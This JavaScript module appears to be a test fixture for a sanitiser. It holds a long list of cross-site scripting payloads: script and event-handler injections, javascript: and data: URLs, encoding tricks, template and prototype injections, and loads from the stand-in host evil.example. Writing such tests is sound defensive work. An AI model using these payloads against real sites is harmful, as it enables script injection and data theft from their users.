/**
 * What people who mean harm put into comments, names and links. Each tries to run `pwned()`, to fetch from
 * `https://evil.example`, or to break out of where it is shown.
 */

const RUN = "pwned()";

/** Elements and attributes, in the ways in which parsers have been fooled. */
const MARKUP = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script/x>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="https://evil.example/x.js"></script>`, `<script src=//evil.example/x.js>`, `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<img src="x" onerror="${RUN}">`, `<img/src=x/onerror=${RUN}>`, `<img src=https://evil.example/pixel.gif>`,
  `<img srcset="https://evil.example/a.png 1x">`, `<img src=x:x onerror=eval(atob('cHduZWQoKQ=='))>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg onload='${RUN}'>"></use></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src=https://evil.example>`,
  `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<object data=https://evil.example/x.swf></object>`,
  `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`,
  `<video poster=https://evil.example/p.png></video>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`, `<button formaction="javascript:${RUN}">x</button>`, `<form action="javascript:${RUN}"><input type=submit>`,
  `<marquee onstart=${RUN}>x</marquee>`, `<div style="background:url(https://evil.example/b.png)">x</div>`, `<div style="width:expression(${RUN})">`,
  `<style>@import 'https://evil.example/x.css';</style>`, `<style>*{background:url(https://evil.example/c.png)}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=preload as=image href=https://evil.example/x.png>`,
  `<link rel=dns-prefetch href=//evil.example>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href=https://evil.example/>`, `<base href="javascript:/a/-${RUN}//">`,
  `<a href="javascript:${RUN}">x</a>`, `<a href=javascript&colon;${RUN}>x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`, `<a href="https://evil.example" ping="https://evil.example/ping">x</a>`,
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`, `<x contenteditable onblur=${RUN}>x</x>`, `<p is="x-y" onclick=${RUN}>x</p>`,
  `--><img src=x onerror=${RUN}>`, `]]><img src=x onerror=${RUN}>`, `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`, `</title><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</script><script>${RUN}</script>`,
  `</afterword-thread><script>${RUN}</script>`, `" onmouseover="${RUN}`, `' autofocus onfocus='${RUN}`, `\` onerror=\`${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `＜script＞${RUN}＜/script＞`, `<ſcript>${RUN}</ſcript>`, `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`, `<?xml version="1.0"?><script>${RUN}</script>`, `<slot name=x onslotchange=${RUN}></slot>`,
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{"__html":"<img src=x onerror=${RUN}>"}`,
  `{"t":"a","href":"javascript:${RUN}","c":["x"]}`, `__proto__[innerHTML]=<img src=x onerror=${RUN}>`,
  `<portal src=https://evil.example></portal>`, `<fencedframe></fencedframe>`, `<dialog open onclose=${RUN}><form method=dialog><button>x`,
  `<p popover id=x onbeforetoggle=${RUN}>x</p><button popovertarget=x>x</button>`, `<style onload=${RUN}></style>`,
];

/** Addresses that are no addresses, wherever Markdown would take one. */
const SCHEMES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `java\u0000script:${RUN}`, `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`, `&#x6A;avascript:${RUN}`, `javascript\\:${RUN}`, `javas\u200Bcript:${RUN}`, `vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg onload=${RUN}>`, `blob:https://evil.example/x`, `file:///etc/passwd`,
  `about:blank`, `view-source:javascript:${RUN}`, `feed:javascript:${RUN}`, `//evil.example/x`, `\\\\evil.example\\x`, `http:javascript:${RUN}`,
  `https://evil.example" onmouseover="${RUN}`, `https://evil.example/'onclick='${RUN}`, `https://evil.example/\u202Egnp.exe`, `mailto:x@y.z?body=<script>${RUN}</script>`,
  `ftp://evil.example/x`, `ws://evil.example`, `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
];

/** The ways in which Markdown takes an address. */
const LINKS = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n\n[x]`,
  (address) => `[x](${address} "t" onclick=${RUN})`,
];

/** Structure that means to break out of where it stands. */
const STRUCTURE = [
  "[a](https://ok.example) **b** `c`", "```js\n</code></pre><script>pwned()</script>\n```", "`<img src=x onerror=pwned()>`", "> <script>pwned()</script>",
  "- <img src=x onerror=pwned()>\n- x", "1. <svg onload=pwned()>", "# <script>pwned()</script>", "| <img src=x onerror=pwned()> | b |\n|---|---|\n| c | d |",
  "**<img src=x onerror=pwned()>**", "~~<svg onload=pwned()>~~", "```\"><script>pwned()</script>\nx\n```", "```<img/src=x/onerror=pwned()>\nx\n```",
  `${"> ".repeat(300)}deep`, `${"*".repeat(400)}x${"*".repeat(400)}`, `${"[".repeat(500)}x${"](y)".repeat(500)}`, "\u202Eevil\u202C \u2066x\u2069", "x\u0000y<script>pwned()</script>",
  "[![x](javascript:pwned())](javascript:pwned())", "![](https://evil.example/pixel.png)", "[x](https://ok.example \"<script>pwned()</script>\")",
  "<https://evil.example/><script>pwned()</script>", "https://ok.example/<script>pwned()</script>", "www.ok.example\"onclick=pwned()", "[x](#afterword-code=evil.state)",
];

export const BODIES = [...MARKUP, ...STRUCTURE, ...SCHEMES.flatMap((address, at) => [LINKS[at % LINKS.length](address), LINKS[(at + 1) % LINKS.length](address)])];
export const ADDRESSES = SCHEMES;
/** Short enough for a name. */
export const NAMES = MARKUP.filter((text) => text.length <= 60);
